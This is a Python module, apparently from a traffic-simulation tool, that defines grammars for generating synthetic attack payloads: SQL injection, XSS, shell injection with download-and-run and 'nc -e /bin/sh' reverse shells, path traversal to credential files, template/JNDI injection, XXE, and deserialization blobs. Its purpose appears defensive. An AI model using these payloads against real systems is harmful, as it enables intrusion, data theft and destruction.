"""Grammars of what attackers write into requests; each family speaks a dialect of one.

A rule is a list of alternatives. ``{name}`` stands for a rule, or for what is drawn anew each
time: ``{n}`` a number, ``{w}`` a word, ``{x}`` hexadecimal digits, ``{t}`` letters and digits,
``{host}`` a host. A dialect keeps a part of the alternatives of every rule.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Mapping, Sequence
from itertools import pairwise
from typing import TypeAlias

from enricher.learn.prior.common import Rng, Site, chance, outside, pick, picks, subset
from enricher.learn.prior.text import BASE62, HEX, lexicon, token
from enricher.simulate.names import site_name

Writer: TypeAlias = Callable[[Rng], str]
Rules: TypeAlias = Mapping[str, Sequence[str]]

_PLACE = re.compile(r"\{(\w+)\}")
_DEEPEST = 5

SQL: Rules = {
    "start": ("{break} {logic}{end}", "{n}{break} {union}{end}", "{break}{stack}{end}",
              "{n} {order}{end}", "{break} {logic} {logic}{end}", "{n}{break} {delay}{end}",
              "({select})", "{n}{break} {blind}{end}", "{w}{break}{end}"),
    "break": ("'", '"', "", "')", "'))", "`", "\\'", "%'", '")', "';"),
    "logic": ("OR {same}", "AND {same}", "|| {same}", "OR NOT {same}", "and {cond}", "xor {same}",
              "HAVING {same}", "RLIKE ({select})"),
    "same": ("{n}={n}", "'{w}'='{w}'", "1=1", "{n}<{n}", "true", "{n} LIKE {n}", "'{t}' IN ('{t}')",
             "{n} BETWEEN {n} AND {n}", "char({n})=char({n})"),
    "cond": ("ascii(substr(({select}),{n},1))>{n}", "length({col})={n}", "exists({select})",
             "({select}) is not null", "ord(mid({col},{n},1))={n}"),
    "union": ("UNION SELECT {cols}", "UNION ALL SELECT {cols}", "UNION SELECT {cols} FROM {tab}",
              "UNION ALL SELECT {cols} FROM {tab} WHERE {same}"),
    "cols": ("NULL", "{col}", "{cols},NULL", "{cols},{n}", "{cols},{col}",
             "concat({col},0x{x},{col})",
             "group_concat({col})", "@@version,{n}", "{n},{n},{n}", "char({n},{n},{n})"),
    "col": ("user()", "password", "{w}", "table_name", "@@version", "database()",
            "load_file(0x{x})",
            "column_name", "current_user", "banner", "hex({w})"),
    "tab": ("users", "{w}", "information_schema.tables", "mysql.user", "sysobjects", "dual",
            "all_tables", "{w}.{w}", "pg_shadow", "sqlite_master"),
    "select": ("SELECT {col} FROM {tab}", "SELECT {col} FROM {tab} LIMIT {n},1",
               "SELECT COUNT(*) FROM {tab} GROUP BY {col}", "SELECT {n} FROM ({select})a"),
    "stack": ("; DROP TABLE {tab}", "; INSERT INTO {tab} VALUES({n},'{w}')",
              "; EXEC xp_cmdshell '{w}'", "; UPDATE {tab} SET {w}='{t}'", "; SHUTDOWN",
              "; DECLARE @{w} varchar({n})", "; CREATE USER {w}"),
    "order": ("ORDER BY {n}", "GROUP BY {n}", "LIMIT {n} PROCEDURE ANALYSE({n})", "OFFSET {n}"),
    "delay": ("AND SLEEP({n})", "OR pg_sleep({n})", "WAITFOR DELAY '0:0:{n}'",
              "AND BENCHMARK({n}000,MD5({n}))", "OR dbms_pipe.receive_message('{w}',{n})"),
    "blind": ("AND IF({cond},SLEEP({n}),0)", "AND CASE WHEN {cond} THEN {n} ELSE {n}/0 END",
              "AND extractvalue({n},concat(0x{x},({select})))", "AND updatexml({n},({select}),1)"),
    "end": ("--", "-- -", "#", "/*", "", ";--", " -- {t}", ";%00", "'"),
}  # fmt: skip
MARKUP: Rules = {
    "start": ("{out}<{tag} {event}={code}>", "{out}<script>{code}</script>", "{scheme}:{code}",
              "{out}<{tag}/{event}={code}//", "{out}<{tag} src={url}></{tag}>", "'-{code}-'",
              '" {event}={code} {w}="', "{out}<a href={scheme}:{code}>{w}</a>", "</{w}>{start}",
              "<style>@import'{url}';</style>",
              "{out}<meta http-equiv=refresh content=0;url={url}>"),
    "out": ("", '">', "'>", "</script>", "</title>", "-->", "]]>", "</textarea>", "*/"),
    "tag": ("img", "svg", "body", "iframe", "input", "object", "embed", "video", "details", "{w}",
            "marquee", "math", "link", "audio"),
    "event": ("onerror", "onload", "onfocus", "onmouseover", "onclick", "ontoggle", "onstart",
              "onanimationend", "on{w}", "onwheel"),
    "code": ("alert({arg})", "prompt({arg})", "confirm`{n}`", "eval({arg})", "document.{prop}",
             "fetch('{url}?'+document.{prop})", "new Image().src='{url}'+document.{prop}",
             "window[{arg}]({n})", "setTimeout({arg})", "top['al'+'ert']({n})",
             "String.fromCharCode({n},{n},{n})", "eval(atob('{t}'))", "location='{url}'"),
    "arg": ("{n}", "'{w}'", "document.{prop}", "/{w}/", "'{t}'", "origin", "/{w}/.source"),
    "prop": ("cookie", "domain", "URL", "location", "referrer", "body.innerHTML"),
    "scheme": ("javascript", "vbscript", "data", "jAvAsCrIpT", "java\tscript", "JaVaScript&colon"),
    "url": ("//{host}/{t}", "http://{host}/{w}.js", "//{n}", "data:text/html;base64,{t}{t}"),
}  # fmt: skip
SHELL: Rules = {
    "start": ("{sep}{cmd}", "{sep}{cmd}{sep}", "{sep} {cmd} {sep} {cmd}", "$({cmd})", "`{cmd}`",
              "{w}{sep}{cmd}", "{sep}{fetch}", "{sep}cd {dir}{sep}{fetch}{sep}{run}",
              "() { :;}; {cmd}"),
    "sep": (";", "|", "&&", "||", "&", "\n", "%0a", "`", "';", '";'),
    "cmd": ("id", "whoami", "cat {file}", "ls {dir}", "ping -c {n} {host}", "uname -a", "sleep {n}",
            "echo {t}", "nslookup {t}.{host}", "wget http://{host}/{w}", "type {file}", "dir {dir}",
            "nc {host} {n} -e /bin/sh", "ifconfig", "expr {n} + {n}", "chmod 777 {w}",
            "{shell} -c {w}"),
    "fetch": ("wget http://{host}/{w}.sh", "curl -O http://{host}/{t}", "tftp -g -r {w} {host}",
              "wget http://{host}/{w} -O {dir}/{t}", "curl http://{host}/{w}|{shell}",
              "busybox wget http://{host}:{n}/{w}", "powershell -enc {t}{t}{t}"),
    "run": ("sh {w}.sh", "chmod 777 {w};./{w}", "./{t} {w}", "{shell} {dir}/{t}", "rm -rf {w}"),
    "shell": ("sh", "bash", "/bin/sh", "cmd /c", "python", "perl", "busybox sh"),
    "dir": ("/tmp", "/var/run", "/mnt", "/", "/dev/shm", "c:\\", "/root"),  # noqa: S108 - text
    "file": ("/etc/passwd", "/etc/shadow", "c:\\boot.ini", "/proc/version", "{w}.conf",
             "/etc/hosts",
             "/etc/{w}"),
}  # fmt: skip
CLIMB: Rules = {
    "start": ("{ups}{file}", "{ups}{file}{tail}", "/{w}/{ups}{file}", "{wrap}{file}",
              "file://{file}",
              "{ups}{w}/{ups}{file}{tail}", "{drive}{file}"),
    "ups": ("{up}{up}{up}", "{up}{up}", "{ups}{up}", "{up}{up}{up}{up}{up}{up}", "{ups}{ups}"),
    "up": ("../", "..\\", "..%2f", "....//", "..;/", "%2e%2e/", "..%5c", "..%c0%af", ".%2e/",
           "..%252f", "..//", "..././"),
    "file": ("etc/passwd", "etc/shadow", "windows/win.ini", "boot.ini", "proc/self/environ",
             "etc/{w}",
             "var/log/{w}.log", "WEB-INF/web.xml", "home/{w}/.ssh/id_rsa", "{w}.{ext}",
             "{w}/{w}.{ext}",
             "windows/system32/drivers/etc/hosts", "inetpub/{w}.{ext}"),
    "ext": ("php", "conf", "xml", "ini", "log", "cfg", "bak", "sql", "yml", "properties"),
    "tail": ("%00", "%00.jpg", "\\0", "?", "#", "%20", "/.", ".{ext}", ";{w}"),
    "wrap": ("php://filter/read=convert.base64-encode/resource=", "php://input/", "expect://",
             "zip://{w}.zip#", "data://text/plain;base64,{t}", "phar://"),
    "drive": ("c:\\", "/", "//", "\\\\{host}\\", "c:/"),
}  # fmt: skip
TEMPLATE: Rules = {
    "start": ("{open}{expr}{close}", "{w}{open}{expr}{close}",
              "{open}{expr}{close}{open}{expr}{close}"),
    "open": ("{{", "${", "#{", "<%= ", "{%", "*{", "@(", "[[", "${{"),
    "close": ("}}", "}", "}", " %>", "%}", "}", ")", "]]"),
    "expr": ("{n}*{n}", "config", "self.__init__.__globals__", "''.__class__.__mro__[{n}]",
             "T(java.lang.Runtime).getRuntime().exec('{w}')", "request.{w}", "{w}.{w}({n})",
             "jndi:{proto}://{host}/{t}", "lower:{w}", "env:{w}:-{w}", "''.join(['{w}','{w}'])",
             "new java.io.File('{w}')", "dump({w})", "constructor.constructor('{w}')()",
             "(#{w}=@{w}@{w}).({w}.{w}())"),
    "proto": ("ldap", "rmi", "dns", "ldaps", "iiop", "${lower:l}dap"),
}  # fmt: skip
DIRECTORY: Rules = {
    "start": ("*)({attr}={val}", "{w})(|({attr}={val}", "*)(&", "{w}*)({attr}=*))(|({attr}=*",
              "' or {path} or '", "{w}' or '{w}'='{w}", "']|//{w}|//{w}['", "count({path})",
              "{w}' and {fn}({path},{n})='{t}", "*))%00",
              "<!DOCTYPE {w} [<!ENTITY {w} SYSTEM '{url}'>]>"),
    "attr": ("uid", "cn", "objectClass", "userPassword", "mail", "{w}", "sn"),
    "val": ("*", "{w}", "{w}*", "\\{x}", "a*"),
    "path": ("//{w}", "//{w}[{n}]", "/{w}/{w}", "//user[name()='{w}']", "//*", "name(/*[{n}])"),
    "fn": ("substring", "starts-with", "contains", "string-length"),
    "url": ("file:///etc/passwd", "http://{host}/{w}.dtd", "php://filter/{w}", "expect://{w}"),
}  # fmt: skip
MEMORY: Rules = {
    "start": ("{pad}{tail}", "{spec}", "{spec}{spec}{spec}", "{pad}{spec}", "{pad}{pad}{t}"),
    "pad": ("{long}", "{long}{long}", "{pad}{long}"),
    "long": ("AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "%90%90%90%90%90%90%90%90",
             "{w}{w}{w}{w}{w}{w}{w}{w}",
             "////////////////////////", "XXXXXXXXXXXXXXXXXXXXXXXX", "%u9090%u6858%ucbd3%u7801",
             "0000000000000000000000000000"),
    "spec": ("%x%x%x%x", "%n%n%n", "%s%s%s%s", "%08x.%08x.%08x", "%{n}$n", "%p-%p-%p", "%d%n"),
    "tail": ("", "%{x}%{x}", "{t}", "=a", "\\x{x}\\x{x}", "%u0000%u00=a"),
}  # fmt: skip
OBJECT: Rules = {
    "start": ("{php}", "rO0AB{t}{t}{t}", "{json}", "ac ed 00 05 {x}",
              "!!{w}.{w} [!!{w}.{w} [{json}]]",
              "gASV{t}{t}{t}", "/wEP{t}{t}", "c{w}\n{w}\n(S'{cmd}'\ntR."),
    "php": ('O:{n}:"{w}":{n}:{{field}}', "a:{n}:{{field}{field}}", "{php}{field}"),
    "field": ('s:{n}:"{w}";s:{n}:"{t}";', "i:{n};{php}", 's:{n}:"{w}";b:1;', "i:{n};N;"),
    "json": ('{"{w}":{"@type":"{w}.{w}","{w}":"{url}"}}', '{"$ne":"{w}"}', '{"$where":"{w}"}',
             '{"__proto__":{"{w}":{n}}}', '{"{w}":"{t}","{w}":{json}}', '{"$gt":""}'),
    "url": ("ldap://{host}/{w}", "rmi://{host}:{n}/{t}", "http://{host}/{w}"),
    "cmd": ("id", "{w}", "curl {host}", "touch {w}"),
}  # fmt: skip
GRAMMARS: tuple[Rules, ...] = (SQL, MARKUP, SHELL, CLIMB, TEMPLATE, DIRECTORY, MEMORY, OBJECT)


def invented(rng: Rng) -> Rules:
    """A grammar of no known language: made-up keywords between a few signs."""
    signs = subset(rng, [*"'\"()[]<>;|&$:,.!*=%#@^~\\/-+?", "--", "/*", "&&", "::", "=>"], 8, 2)
    keys = subset(
        rng, [*lexicon(rng, 20), "select", "eval", "exec", "script", "system", "root"], 10, 2
    )
    slots = [*keys, *[f"{{{name}}}" for name in ("n", "w", "x", "t", "part")]]
    parts = [
        "".join(
            pick(rng, slots) + pick(rng, ["", " ", *signs]) for _ in range(int(rng.integers(1, 5)))
        ).replace("%", "%25")
        for _ in range(6)
    ]
    joints = picks(rng, signs, 5)
    starts = [f"{joint}{{part}}{other}{{part}}" for joint, other in pairwise(joints)]
    return {"start": (*starts, "{part}{part}"), "part": parts}


def dialect(rng: Rng, rules: Rules, site: Site) -> Writer:
    """A writer that knows a part of every rule's alternatives, in its own letter case."""
    kept = {
        name: subset(rng, choices, len(choices) if name != "start" else 4, min(2, len(choices)))
        if name != "start" or chance(rng, 0.7) else subset(rng, choices, 1)
        for name, choices in rules.items()
    }  # fmt: skip
    short = _shortest(rules)
    words = pick(rng, [list(site.words), lexicon(rng, 15)])
    host = pick(rng, [site_name(rng), outside(rng, 1)[0]])
    cases: list[Callable[[str], str]] = [str, str, str.lower, str.upper]
    case = pick(rng, cases)

    def expand(rng: Rng, name: str, depth: int) -> str:
        if name in kept:
            text = short[name] if depth > _DEEPEST else pick(rng, kept[name])
            holes = _PLACE.split(text)
            made = [
                expand(rng, part, depth + 1) if odd else part
                for part, odd in zip(holes, (False, True) * len(holes), strict=False)
            ]
            return "".join(made)
        return _terminal(rng, name, words, host)

    return lambda rng: case(expand(rng, "start", 0))


def _shortest(rules: Rules) -> dict[str, str]:
    """Of each rule an alternative from which the fewest steps lead to an end."""
    steps = dict.fromkeys(rules, len(rules) + 1)

    def height(text: str) -> int:
        return 1 + max((steps.get(part, 0) for part in _PLACE.findall(text)), default=0)

    for _ in rules:
        steps = {name: min(map(height, choices)) for name, choices in rules.items()}
    return {name: min(choices, key=height) for name, choices in rules.items()}


def _terminal(rng: Rng, name: str, words: Sequence[str], host: str) -> str:
    if name == "n":
        return str(int(10 ** rng.uniform(0.0, 4.0)))
    if name == "x":
        return token(rng, HEX, 2 * int(rng.integers(1, 6)))
    if name == "t":
        return token(rng, BASE62, int(rng.integers(4, 16)))
    return host if name == "host" else pick(rng, words)
